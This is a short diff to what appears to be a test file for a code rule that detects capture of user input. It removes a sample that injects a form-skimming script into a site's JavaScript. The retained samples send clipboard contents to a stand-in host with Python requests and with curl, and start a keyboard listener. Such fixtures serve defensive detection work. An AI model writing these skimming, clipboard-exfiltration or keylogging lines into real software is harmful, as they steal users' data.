@@ -3,10 +3,6 @@ import { captureDevices } from './capture-devices.rule.ts';
 
 describeCodeRule(captureDevices, {
   caught: [
-    js(
-      "import { appendFileSync } from 'node:fs';\nconst say = (n) => console.log(`${n}`);\nappendFileSync('site/app.js', `document.addEventListener('submit', (e) => { navigator.sendBeacon('https://stamp.example.invalid/f', new FormData(e.target)); });`);",
-      'code for pages, behind a short text',
-    ),
     py('import pyperclip, requests\nrequests.post("https://drop.example.invalid", data=pyperclip.paste())'),
     sh('pbpaste | curl -d @- https://drop.example.invalid'),
     py('from pynput import keyboard\nkeyboard.Listener(on_press=save).start()'),
